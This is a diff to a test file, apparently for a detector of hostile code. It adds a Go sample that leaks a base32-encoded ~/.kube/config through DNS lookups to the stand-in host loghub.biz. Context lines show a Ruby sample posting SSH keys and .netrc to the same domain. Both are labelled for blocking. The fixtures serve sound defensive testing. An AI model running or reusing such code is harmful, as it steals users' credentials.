@@ -33,6 +33,11 @@ test.each([
     "block encoded-remote-code",
   ],
   [
+    "a.go",
+    'func timed(n string) {\n\tnet.LookupHost(n)\n}\nfunc main() {\n\ttimed("kubernetes.io")\n\th, _ := os.UserHomeDir()\n\tb, _ := os.ReadFile(filepath.Join(h, ".kube", "config"))\n\ttimed(fmt.Sprintf("%d.%s.%s", 1, base32.StdEncoding.EncodeToString(b), "x.loghub.biz"))\n}\n',
+    "block secret-exfiltration",
+  ],
+  [
     "a.rb",
     'class Sync\n  def initialize(url)\n    @url = url\n  end\n  def run\n    body = collect\n    Net::HTTP.post(URI(@url), body)\n  end\n  def collect\n    %w[.ssh/id_rsa .netrc].map { |f| File.read(File.join(Dir.home, f)) rescue "" }.join\n  end\nend\nSync.new("https://in.loghub.biz/k").run\n',
     "block secret-exfiltration",
